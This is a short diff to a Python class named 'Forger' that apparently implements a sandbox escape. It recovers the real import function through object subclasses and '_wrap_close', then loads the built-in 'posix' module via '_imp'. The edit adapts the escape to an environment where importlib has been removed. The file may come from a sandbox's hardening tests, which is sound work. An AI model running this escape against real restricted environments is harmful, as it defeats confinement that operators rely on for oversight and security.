@@ -8,7 +8,7 @@ class Forger:
         for cls in ().__class__.__base__.__subclasses__():
             if cls.__name__ == "_wrap_close":
                 real_import = cls.__init__.__globals__["__builtins__"]["__import__"]
-                machinery = real_import("importlib.machinery", fromlist=["_"])
+                machinery = real_import("sys").modules["_frozen_importlib"]  # importlib is gone once confined
                 imp = real_import("_imp")
                 module = imp.create_builtin(machinery.ModuleSpec("posix", machinery.BuiltinImporter, origin="built-in"))
                 imp.exec_builtin(module)
